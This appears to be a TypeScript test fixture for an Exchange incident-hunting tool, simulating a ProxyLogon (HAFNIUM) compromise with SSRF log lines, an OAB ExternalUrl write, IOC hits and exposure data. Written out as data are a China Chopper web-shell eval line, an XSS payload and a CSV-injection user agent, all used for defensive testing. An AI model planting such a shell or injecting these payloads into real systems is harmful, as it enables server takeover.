// A realistic ProxyLogon compromise, built in code for the hunt/ and report/ tests: SSRF from two
// HAFNIUM-listed IPs (MSTIC IOC list, 2021-03), the CVE-2021-27065 OAB ExternalUrl write, a web shell
// in aspnet_client requested from a third IP, IOC hits, exposure, errors and coverage.
import { correlate } from '../analysis/correlate.ts'
import { coverageWarnings } from '../analysis/coverage.ts'
import { buildTimeline } from '../analysis/timeline.ts'
import { decideVerdict } from '../analysis/verdict.ts'
import type { CoverageEntry, Exposure, Finding, HuntReport, Proof } from '../shared/types.ts'

export const IP_A = '165.232.154.116'
export const IP_B = '86.105.18.116'
export const IP_SHELL = '104.248.49.97'
export const SHELL_URL = '/aspnet_client/system_web/supp0rt.aspx'
export const SHELL_FILE = 'C/inetpub/wwwroot/aspnet_client/system_web/supp0rt.aspx'
export const XSS = `<script>alert(1)</script>"'><img src=x onerror=alert(2)>`

let seq = 0

/** What the fixture's imaginary rule declares, as content would for such a rule (tests may override). */
function fixtureProof(p: Partial<Finding> & Pick<Finding, 'rule'>): Proof {
  const cat = p.category ?? 'exploitation'
  if (cat === 'ioc') return p.rule.startsWith('ioc:sha') ? 'compromise' : 'attempt'
  if (cat === 'exploitation' || cat === 'webshell' || cat === 'post-exploitation')
    return 'compromise'
  return 'context'
}

export function finding(p: Partial<Finding> & Pick<Finding, 'rule'>): Finding {
  seq++
  return {
    id: p.id ?? `f${String(seq).padStart(3, '0')}`,
    title: p.rule,
    severity: 'high',
    category: 'exploitation',
    outcome: 'unknown',
    proves: fixtureProof(p),
    cves: [],
    attack: [],
    source: { path: 'Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG', line: seq },
    indicators: { ips: [], users: [], paths: [], userAgents: [] },
    evidence: '',
    ruleSource: {
      engine: 'native',
      file: `rules/native/httpproxy/${p.rule}.yml`,
      license: 'MIT',
      author: 'exhunt',
    },
    ...p,
  }
}

function ssrf(ip: string, time: string, outcome: Finding['outcome'], target: string): Finding {
  return finding({
    rule: 'proxylogon-ssrf-cookie',
    title: 'CVE-2021-26855 SSRF via X-BEResource cookie',
    severity: 'critical',
    outcome,
    phase: 'initial-access',
    cves: ['CVE-2021-26855'],
    attack: ['T1190'],
    time,
    indicators: {
      ips: [ip],
      users: [],
      paths: ['/ecp/y.js'],
      userAgents: ['ExchangeServicesClient/0.0.0.0'],
    },
    fields: { AnchorMailbox: `ServerInfo~${target}`, status: '200' },
    evidence: `${time},b4a1c5e0-8d8c-4f42-9d1b-7f0e1a7e9c11,15,1,2176,2,,Ecp,true,,,,ExchangeServicesClient/0.0.0.0,${ip},EXCH01,200,,,POST,Proxy,${target},15.01.2176.000,IntraForest,X-BEResource-Cookie,,,,0,,,0,,,,,,,,,,1,,/ecp/y.js`,
    ruleSource: {
      engine: 'sigma',
      file: 'rules/vendor/sigma/web_exchange_proxylogon.yml',
      license: 'DRL-1.1',
      author: 'Florian Roth (Nextron Systems)',
      url: 'https://github.com/SigmaHQ/sigma',
    },
  })
}

export function proxyLogonFindings(): Finding[] {
  seq = 0
  const fs: Finding[] = []
  // IP_A: three SSRF requests that reached the ECP backend, then the OAB ExternalUrl write.
  fs.push(
    ssrf(
      IP_A,
      '2021-03-03T06:12:01.482Z',
      'unknown',
      'exch01.contoso.local:444/ecp/DDI/DDIService.svc/GetList?msExchEcpCanary=x',
    ),
  )
  fs.push(
    ssrf(
      IP_A,
      '2021-03-03T06:12:03.120Z',
      'success',
      'exch01.contoso.local:444/ecp/proxyLogon.ecp',
    ),
  )
  fs.push(
    ssrf(
      IP_A,
      '2021-03-03T06:12:05.004Z',
      'success',
      'exch01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject',
    ),
  )
  // IP_B: SSRF to the same backend, success only known from a follow-up.
  fs.push(
    ssrf(
      IP_B,
      '2021-03-03T07:40:10.000Z',
      'attempt',
      'exch01.contoso.local:444/ecp/DDI/DDIService.svc/GetObject',
    ),
  )
  fs.push(
    ssrf(
      IP_B,
      '2021-03-03T07:40:12.000Z',
      'success',
      'exch01.contoso.local:444/ecp/proxyLogon.ecp',
    ),
  )
  // A scanner whose SSRF only reached autodiscover on localhost.
  fs.push(
    ssrf(
      '45.77.252.175',
      '2021-03-04T02:00:00.000Z',
      'attempt',
      'localhost/autodiscover/autodiscover.xml',
    ),
  )
  fs.push(
    finding({
      rule: 'proxylogon-ecp-oab-externalurl',
      title: 'CVE-2021-27065: Set-OabVirtualDirectory with script in ExternalUrl',
      severity: 'critical',
      outcome: 'success',
      phase: 'execution',
      cves: ['CVE-2021-27065'],
      attack: ['T1505.003'],
      time: '2021-03-03T06:12:06.000Z',
      source: { path: 'Logging/ECP/Server/ECPServer20210303-1.LOG', line: 412 },
      indicators: {
        ips: [IP_A],
        users: ['CONTOSO\\administrator'],
        paths: ['/ecp/DDI/DDIService.svc/SetObject'],
        userAgents: [],
      },
      evidence: `2021-03-03T06:12:06.000Z,EXCH01,ECP.Request,S:TIME=12;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/${XSS}'.Identity='OAB (Default Web Site)'`,
      fields: { cmdlet: 'Set-OabVirtualDirectory' },
    }),
  )
  fs.push(
    finding({
      rule: 'proxylogon-oabgenerator-write',
      title: 'OABGenerator wrote a file outside the OAB folder (CVE-2021-27065)',
      severity: 'critical',
      category: 'post-exploitation',
      outcome: 'success',
      phase: 'persistence',
      cves: ['CVE-2021-27065'],
      attack: ['T1505.003'],
      time: '2021-03-03T06:12:09.000Z',
      source: { path: 'Logging/OABGeneratorLog/OABGenerator20210303-1.LOG', line: 77 },
      indicators: {
        ips: [],
        users: [],
        paths: ['C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\supp0rt.aspx'],
        userAgents: [],
      },
      evidence:
        'Download failed and temporary file \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\system_web\\supp0rt.aspx needs to be removed',
    }),
  )
  // The shell on disk and its hash IOC.
  fs.push(
    finding({
      id: 'shellfile',
      rule: 'webshell-china-chopper-oab',
      title: 'China Chopper in OAB virtual directory dump',
      severity: 'critical',
      category: 'webshell',
      outcome: 'success',
      phase: 'persistence',
      attack: ['T1505.003'],
      source: { path: SHELL_FILE },
      evidence:
        'ExternalUrl: http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>',
      file: {
        size: 2314,
        sha256: 'b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0',
        mtime: '2021-03-03T06:12:09Z',
      },
      ruleSource: {
        engine: 'yara',
        file: 'rules/vendor/yara/apt_hafnium.yar',
        license: 'DRL-1.1',
        author: 'Florian Roth',
      },
    }),
  )
  fs.push(
    finding({
      rule: 'ioc:sha256',
      title: 'Known HAFNIUM web shell hash',
      severity: 'critical',
      category: 'ioc',
      outcome: 'success',
      source: { path: SHELL_FILE },
      evidence: 'sha256 b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0',
      ruleSource: {
        engine: 'ioc',
        file: 'ioc/hafnium.yml',
        license: 'MIT',
        origins: ['mstic-azure-sentinel', 'cisa-chirp-AA21-062A'],
      },
    }),
  )
  // Web-shell requests from a third IP (some folded), one with a CSV-injection user agent.
  for (let i = 0; i < 12; i++) {
    const t = `2021-03-05T1${i % 10}:0${i % 6}:00.000Z`
    fs.push(
      finding({
        rule: 'webshell-request-aspnet-client',
        title: 'POST to an .aspx under aspnet_client',
        severity: 'high',
        category: 'webshell',
        outcome: 'success',
        phase: 'execution',
        attack: ['T1505.003'],
        time: t,
        source: { path: 'inetpub/logs/LogFiles/W3SVC1/u_ex210305.log', line: 100 + i },
        indicators: {
          ips: [IP_SHELL],
          users: [],
          paths: [SHELL_URL],
          userAgents: [i === 3 ? "=cmd|' /C calc'!A0" : 'python-requests/2.25.1'],
        },
        fields: { status: '200' },
        evidence: `${t.slice(0, 10)} ${t.slice(11, 19)} 10.0.0.5 POST ${SHELL_URL} - 443 - ${IP_SHELL} python-requests/2.25.1 - 200 0 0 31`,
        folded: i === 0 ? 41 : undefined,
      }),
    )
  }
  fs.push(
    finding({
      rule: 'ioc:ip',
      title: 'IP listed in MSTIC HAFNIUM indicators',
      severity: 'medium',
      category: 'ioc',
      outcome: 'unknown',
      time: '2021-03-03T06:12:01.482Z',
      indicators: { ips: [IP_A], users: [], paths: [], userAgents: [] },
      evidence: IP_A,
      ruleSource: {
        engine: 'ioc',
        file: 'ioc/hafnium.yml',
        license: 'MIT',
        origins: ['mstic-azure-sentinel'],
      },
    }),
  )
  // Low-weight context and recon.
  for (let i = 0; i < 6; i++) {
    fs.push(
      finding({
        rule: 'recon-autodiscover-enum',
        title: 'Autodiscover probing',
        severity: 'low',
        category: 'reconnaissance',
        phase: 'reconnaissance',
        time: `2021-03-02T1${i}:15:00.000Z`,
        indicators: {
          ips: [IP_B],
          users: [],
          paths: ['/autodiscover/autodiscover.xml'],
          userAgents: ['curl/7.68.0'],
        },
        evidence: `GET /autodiscover/autodiscover.xml - 443 - ${IP_B} curl/7.68.0 - 401`,
      }),
    )
  }
  fs.push(
    finding({
      rule: 'context-lsass-dump-file',
      title: 'LSASS dump in ProgramData (comsvcs.dll MiniDump)',
      severity: 'high',
      category: 'post-exploitation',
      outcome: 'unknown',
      phase: 'credential-access',
      attack: ['T1003.001'],
      source: { path: 'C/ProgramData/lsass.dmp' },
      indicators: { ips: [], users: [], paths: ['C:\\ProgramData\\lsass.dmp'], userAgents: [] },
      evidence: 'MDMP signature, 48 MiB',
      file: { size: 50_331_648, mtime: '2021-03-05T11:00:00Z' },
    }),
  )
  return fs
}

export const PROXYLOGON_EXPOSURE: Exposure = {
  build: '15.1.2176.2',
  buildSource: 'ExSetup.exe version resource',
  product: 'Exchange Server 2016',
  versionName: 'Exchange Server 2016 CU19',
  releaseDate: '2020-12-15',
  missing: [
    { cve: 'CVE-2021-26855', fixedIn: 'Mar21SU' },
    { cve: 'CVE-2021-26857', fixedIn: 'Mar21SU' },
    { cve: 'CVE-2021-26858', fixedIn: 'Mar21SU' },
    { cve: 'CVE-2021-27065', fixedIn: 'Mar21SU' },
    { cve: 'CVE-2021-34473', fixedIn: 'Apr21SU' },
    {
      cve: 'CVE-2021-34470',
      fixedIn: 'Jul21SU',
      caveat: 'also needs /PrepareSchema after the update',
    },
  ],
  caveats: ['Updating does not remove web shells or accounts an attacker already planted.'],
}

export const PROXYLOGON_COVERAGE: CoverageEntry[] = [
  {
    logType: 'httpproxy',
    files: 120,
    bytes: 812_000_000,
    lines: 2_400_000,
    oldest: '2021-02-20T00:00:02Z',
    newest: '2021-03-06T23:59:58Z',
  },
  {
    logType: 'iis',
    files: 15,
    bytes: 340_000_000,
    lines: 1_100_000,
    oldest: '2021-02-20T00:00:00Z',
    newest: '2021-03-06T23:59:59Z',
  },
  {
    logType: 'ecp-server',
    files: 8,
    bytes: 4_000_000,
    lines: 12_000,
    oldest: '2021-02-21T08:00:00Z',
    newest: '2021-03-06T12:00:00Z',
  },
  {
    logType: 'oab-generator',
    files: 3,
    bytes: 120_000,
    lines: 900,
    oldest: '2021-02-25T00:00:00Z',
    newest: '2021-03-06T00:00:00Z',
  },
  {
    logType: 'evtx',
    files: 2,
    bytes: 20_000_000,
    lines: 0,
    oldest: '2021-01-10T00:00:00Z',
    newest: '2021-02-10T00:00:00Z',
  },
  { logType: 'webfiles', files: 412, bytes: 9_000_000, lines: 0 },
]

/** The whole report, put together the way hunt/run.ts does. */
export function proxyLogonReport(): HuntReport {
  const findings = correlate(proxyLogonFindings())
  const decided = decideVerdict(findings, PROXYLOGON_EXPOSURE)
  return {
    schema: 'exhunt.hunt/1',
    tool: { name: 'exhunt', version: '0.1.0', contentVersion: '2025.01.0' },
    input: { path: '/evidence/EXCH01.zip', kind: 'zip', layouts: ['exchange-install', 'inetpub'] },
    startedAt: '2025-01-10T09:00:00.000Z',
    finishedAt: '2025-01-10T09:00:12.345Z',
    verdict: decided.verdict,
    verdictReasons: decided.reasons,
    findings,
    timeline: buildTimeline(findings),
    coverage: {
      entries: PROXYLOGON_COVERAGE,
      warnings: coverageWarnings(
        PROXYLOGON_COVERAGE,
        [
          {
            name: 'ProxyLogon (HAFNIUM)',
            cves: ['CVE-2021-26855', 'CVE-2021-26857', 'CVE-2021-26858', 'CVE-2021-27065'],
            from: '2021-01-03',
            patched: '2021-03-02',
          },
        ],
        { missingCves: PROXYLOGON_EXPOSURE.missing.map((m) => m.cve) },
      ),
    },
    exposure: PROXYLOGON_EXPOSURE,
    errors: [
      {
        code: 'EXH_ERR_LOG_NUL_BYTES',
        path: 'Logging/HttpProxy/Owa/HttpProxy_2021030401-3.LOG',
        message: 'file ends mid-line',
        line: 88211,
      },
      {
        code: 'EXH_ERR_ZIP_ENCRYPTED',
        path: 'EXCH01.zip!Temp/x.zip',
        message: 'encrypted zip entry skipped',
      },
      {
        code: 'EXH_ERR_LOG_LINE_TOO_LONG',
        path: 'inetpub/logs/LogFiles/W3SVC1/u_ex210304.log',
        message: 'line over 1 MiB skipped',
        line: 1200,
      },
    ],
    stats: {
      files: 560,
      bytes: 1_185_000_000,
      lines: 3_512_900,
      records: 3_512_000,
      findings: findings.length,
      folded: 41,
      durationMs: 12_345,
      workers: 2,
      rules: 310,
    },
  }
}
